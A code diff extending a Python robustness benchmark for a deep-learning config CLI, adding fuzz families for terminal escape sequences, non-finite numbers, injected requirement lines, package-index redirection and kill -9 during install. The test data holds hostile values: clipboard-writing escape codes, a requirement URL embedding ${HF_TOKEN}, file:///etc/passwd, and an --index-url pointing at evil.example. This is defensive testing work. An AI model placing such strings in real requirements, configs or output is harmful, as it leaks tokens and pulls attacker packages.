@@ -19,6 +19,19 @@ Prints counts, and exits 1 when any crash, injection or mixed bundle was found:
   moment; afterwards the folder must hold exactly the old or the new bundle (compared
   with their manifests) plus the user's file, and the next export must leave no
   temporary folder.
+- **writer**: a job writing checkpoints into the bundle's ``output/`` through repeated
+  ``export --force``: none lost, no write failed, the folder's metadata kept.
+- **terminal**: escape sequences (clipboard, title, clear screen, C1) in a workload's and
+  a config.json's names through estimate, plan, export and doctor --plan: no control
+  character reaches the terminal.
+- **numbers**: infinities, NaN and overflowing integers in a config.json and a GGUF
+  header: exit 0 or 2 (the field named), never an exception.
+- **requirements**: a plan file whose framework name, version or variant is a whole
+  requirement line (direct URL, marker, option): never written to requirements.txt.
+- **index**: ``kb import`` of a knowledge base naming another package index without
+  ``--trust-index``: refused, both addresses named.
+- **apply**: ``apply`` killed with SIGKILL while uv installs, then run again: the rerun
+  stops the leftover uv and finishes the environment.
 
 Not part of CI (it takes minutes); the tests hold a few examples of each.
 """
@@ -547,6 +560,222 @@ def writer_during_force(
     return lost, len(failed)
 
 
+# --- terminal, numbers, requirement lines, package index, apply after kill -9 ------------
+
+ESCAPES = [
+    "\x1b]52;c;ZXZpbA==\x07",  # write the clipboard
+    "\x1b]0;pwned\x07",  # window title
+    "\x1b[2J\x1b[H",  # clear the screen
+    "\x9b31m",  # CSI as one C1 character
+    "\r\x1b[K",  # overwrite the line
+    "\x1bP+q544e\x1b\\",  # DCS request
+    "\x07\x08\x7f",
+]
+CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
+
+
+def run_cli_out(argv: list[str]) -> tuple[int | None, str, str]:
+    """(exit code, stdout, stderr) of the CLI entry; None when an exception escaped it."""
+    from dlconfig.cli import main
+
+    with _captured() as (out, err):
+        try:
+            code = main(argv)
+        except SystemExit as exc:
+            code = exc.code if isinstance(exc.code, int) else 2
+        except Exception as exc:  # noqa: BLE001 - counting crashes is the point
+            return None, out.getvalue(), f"{type(exc).__name__}: {exc}"
+    return code, out.getvalue(), err.getvalue()
+
+
+def _config(name: str, hidden: Any = 256) -> str:
+    fields = {"_name_or_path": name, "model_type": "llama", "num_hidden_layers": 2}
+    fields |= {"num_attention_heads": 4, "intermediate_size": 512, "vocab_size": 1000}
+    text = json.dumps(fields)
+    return text[:-1] + f', "hidden_size": {hidden}}}'
+
+
+def terminal(work: Path, counts: Counts, rng: random.Random) -> None:
+    """Escape sequences in a workload's name and a config.json's model name, through
+    estimate, plan and doctor --plan: no control character may reach the terminal."""
+    folder = work / "terminal"
+    folder.mkdir()
+    for i in range(len(ESCAPES) * 3):
+        hostile = "n" + "".join(rng.sample(ESCAPES, rng.randint(1, 3))) + MARK
+        (folder / "config.json").write_text(_config(hostile), encoding="utf-8")
+        workload = folder / "w.yaml"
+        data = {"name": hostile, "task": "llm", "mode": "lora", "model": {"config": "config.json"}}
+        workload.write_text(json.dumps(data), encoding="utf-8")
+        bundle = folder / f"b{i}"
+        runs = [["estimate", str(workload)], ["plan", str(workload), "--no-probe"]]
+        runs += [["export", str(workload), "--out", str(bundle), "--no-pdf"]]
+        runs += [["doctor", "--no-torch", "--plan", str(bundle / "recommendation.json")]]
+        counts["inputs"] += 1
+        for argv in runs:
+            code, out, err = run_cli_out(argv)
+            counts["runs"] += 1
+            if code is None or code not in (0, 1, 2) or "Traceback" in err:
+                counts["crashes"] += 1
+                print(f"  crash: {argv[0]}: {code} {err[-300:]}")
+            if CONTROL.search(out) or CONTROL.search(err.replace("\n", "")):
+                counts["escapes"] += 1
+                print(f"  escape reached the terminal: {argv[0]}")
+
+
+NUMBERS = ["1e999", "-1e999", "NaN", "Infinity", "-Infinity", "1e308", "1" + "0" * 400, "-0"]
+
+
+def numbers(work: Path, counts: Counts) -> None:
+    """Non-finite and overflowing numbers in a config.json and a GGUF header: an input
+    error naming the field (exit 2) or a plan, never an exception (exit 1) or a traceback."""
+    import struct
+
+    folder = work / "numbers"
+    folder.mkdir()
+    workload = folder / "w.yaml"
+    workload.write_text("task: llm\nmode: lora\nmodel: {config: config.json}\n", "utf-8")
+    for number in NUMBERS:
+        (folder / "config.json").write_text(_config("x", number), encoding="utf-8")
+        for argv in (["estimate", str(workload)], ["plan", str(workload), "--no-probe"]):
+            counts["inputs"] += 1
+            code, _out, err = run_cli_out(argv)
+            counts[f"exit_{code}"] += 1
+            if code not in (0, 2) or "Traceback" in err:
+                counts["crashes"] += 1
+                print(f"  {argv[0]} hidden_size={number[:12]}: exit {code} {err[-200:]}")
+    for value in (float("inf"), float("nan"), 3.4e38):
+        key = b"llama.embedding_length"
+        arch = b"general.architecture"
+        raw = b"GGUF" + struct.pack("<IQQ", 3, 0, 2)
+        raw += struct.pack("<Q", len(arch)) + arch + struct.pack("<IQ", 8, 5) + b"llama"
+        raw += struct.pack("<Q", len(key)) + key + struct.pack("<If", 6, value)
+        gguf = folder / "m.gguf"
+        gguf.write_bytes(raw)
+        counts["inputs"] += 1
+        code, _out, err = run_cli_out(["estimate", "--model-config", str(gguf)])
+        counts[f"exit_{code}"] += 1
+        if code != 2 or "Traceback" in err:
+            counts["crashes"] += 1
+            print(f"  estimate GGUF embedding_length={value}: exit {code} {err[-200:]}")
+
+
+REQUIREMENT_LINES = [
+    "torch @ https://host.example/${HF_TOKEN}/torch.whl",
+    "torch @ file:///etc/passwd",
+    "torch; sys_platform == 'nonexistent'",
+    "torch==2.9.1 --index-url https://evil.example/simple",
+    "torch>=0",
+    f"{MARK}==1.0",
+]
+
+
+def requirements(work: Path, counts: Counts) -> None:
+    """A plan file whose framework name or version is a whole requirement line (a direct
+    URL, a marker, an option): refused, or written as name==version from the project's
+    own index; the hostile text never reaches requirements.txt."""
+    original = json.loads((PLANS_DIR / "linux_single_gpu_pytorch.json").read_text("utf-8"))
+    plan_file = work / "req-plan.json"
+    for line in REQUIREMENT_LINES:
+        for field in ("name", "version", "variant"):
+            data = json.loads(json.dumps(original))
+            data["stack"]["framework"][field] = line
+            plan_file.write_text(json.dumps(data), encoding="utf-8")
+            counts["inputs"] += 1
+            code, err, files = _export_dir(plan_file, work / "req-out")
+            counts[f"exit_{code}"] += 1
+            if code is None or "Traceback" in err:
+                counts["crashes"] += 1
+            text = files.get("requirements.txt", "")
+            if code == 0 and any(
+                bad in text for bad in ("@", ";", "--index-url https://evil", MARK)
+            ):
+                counts["passed_through"] += 1
+                print(f"  {field}={line!r} reached requirements.txt")
+
+
+def index_import(work: Path, counts: Counts) -> None:
+    """A knowledge base naming another package index: refused without --trust-index."""
+    from tests.kb_copies import copy_packaged_kb
+
+    source = copy_packaged_kb(work / "kb-moved")
+    path = source / "pytorch.yaml"
+    text = path.read_text(encoding="utf-8")
+    old = next(ln for ln in text.splitlines() if ln.startswith("index_base_url:"))
+    path.write_text(text.replace(old, 'index_base_url: "https://evil.example/whl"'), "utf-8")
+    counts["inputs"] += 1
+    code, _out, err = run_cli_out(["kb", "import", str(source)])
+    counts[f"exit_{code}"] += 1
+    if code == 0:
+        counts["index_moved"] += 1
+        print("  kb import moved the package index without --trust-index")
+    elif "evil.example" not in err:
+        counts["unnamed"] += 1
+    run_cli_out(["kb", "reset"])
+
+
+def apply_after_kill(iterations: int, work: Path, counts: Counts, rng: random.Random) -> None:
+    """apply killed with SIGKILL while its uv installs, then applied again: the rerun
+    must take the half-made environment as its own, stop the leftover and finish."""
+    import psutil
+
+    from dlconfig.apply.environment import apply_bundle
+    from tests.apply.bundles import write_bundle
+
+    for i in range(iterations):
+        folder = work / f"apply-{i}"
+        folder.mkdir()
+        bundle = write_bundle(folder / "bundle")
+        started = folder / "installing"
+        slow = folder / "slow-uv"
+        slow.write_text(
+            '#!/bin/sh\ncase "$1" in\n  venv) mkdir -p "$4/bin"; exit 0 ;;\n'
+            f'  pip) touch "{started}"; sleep 120 ;;\nesac\n',
+            encoding="utf-8",
+        )
+        slow.chmod(0o755)
+        code = (
+            "import sys; from pathlib import Path;"
+            "from dlconfig.apply.environment import apply_bundle;"
+            "apply_bundle(Path(sys.argv[1]), uv=sys.argv[2])"
+        )
+        env = {**os.environ, "PYTHONPATH": str(ROOT)}
+        child = subprocess.Popen([sys.executable, "-c", code, str(bundle), str(slow)], env=env)
+        deadline = time.monotonic() + 60
+        while not started.exists() and time.monotonic() < deadline and child.poll() is None:
+            time.sleep(0.02)
+        time.sleep(rng.random() * 0.3)
+        child.kill()
+        child.wait()
+        counts["kills"] += 1
+        with _patched_env_for_offline_uv(folder) as links:
+            try:
+                result = apply_bundle(bundle, find_links=links)
+                counts["resumed" if result.is_ok else "failed"] += 1
+            except Exception as exc:  # noqa: BLE001 - counting failures is the point
+                counts["not_resumed"] += 1
+                print(f"  rerun after kill -9: {type(exc).__name__}: {exc}")
+        env_dir = str(bundle / ".venv")
+        left = [
+            p for p in psutil.process_iter(["cmdline"])
+            if any(env_dir in part for part in p.info.get("cmdline") or [])
+        ]  # fmt: skip
+        counts["leftover_processes"] += len(left)
+        for proc in left:
+            with contextlib.suppress(psutil.Error):
+                proc.kill()
+
+
+@contextlib.contextmanager
+def _patched_env_for_offline_uv(folder: Path) -> Iterator[Path]:
+    """The tests' offline uv (a generated wheel in a find-links folder, its own cache)."""
+    import pytest
+
+    from tests.apply.bundles import use_offline_uv
+
+    with pytest.MonkeyPatch.context() as patch:
+        yield use_offline_uv(folder, patch)
+
+
 BAD = (
     "lost_checkpoints",
     "failed_writes",
@@ -557,22 +786,33 @@ BAD = (
     "non_ascii_ps1",
     "leftovers_after_next_export",
     "mixed_after_next_export",
+    "escapes",
+    "passed_through",
+    "index_moved",
+    "not_resumed",
+    "leftover_processes",
 )
+
+
+FAMILIES = (
+    "workloads", "plans", "names", "kill", "writer",
+    "terminal", "numbers", "requirements", "index", "apply",
+)  # fmt: skip
 
 
 def main(argv: list[str] | None = None) -> int:
     parser = argparse.ArgumentParser(prog="python -m benchmarks.hostile", description=__doc__)
     parser.add_argument("--quick", action="store_true", help="a tenth of the runs")
     parser.add_argument("--seed", type=int, default=18)
-    parser.add_argument("--only", help="comma-separated: workloads, plans, names, kill, writer")
+    parser.add_argument(
+        "--only",
+        help="comma-separated: workloads, plans, names, kill, writer, terminal, numbers,"
+        " requirements, index, apply",
+    )
     args = parser.parse_args(argv)
     os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")
     scale = 10 if args.quick else 1
-    only = (
-        set(args.only.split(","))
-        if args.only
-        else {"workloads", "plans", "names", "kill", "writer"}
-    )
+    only = set(args.only.split(",")) if args.only else set(FAMILIES)
     rng = random.Random(args.seed)
     results: list[str] = []
     bad = 0
@@ -594,6 +834,16 @@ def main(argv: list[str] | None = None) -> int:
             ("writer", lambda c: writer_during_force(max(3, 30 // scale), work, c),
              ("exports", "checkpoints", "lost_checkpoints", "failed_writes",
               "metadata_changed")),
+            ("terminal", lambda c: terminal(work, c, rng),
+             ("inputs", "runs", "crashes", "escapes")),
+            ("numbers", lambda c: numbers(work, c),
+             ("inputs", "crashes", "exit_0", "exit_1", "exit_2")),
+            ("requirements", lambda c: requirements(work, c),
+             ("inputs", "crashes", "passed_through", "exit_0", "exit_2")),
+            ("index", lambda c: index_import(work, c),
+             ("inputs", "index_moved", "unnamed", "exit_2")),
+            ("apply", lambda c: apply_after_kill(max(2, 10 // scale), work, c, rng),
+             ("kills", "resumed", "failed", "not_resumed", "leftover_processes")),
         ]  # fmt: skip
         for label, step, keys in steps:
             if label not in only:
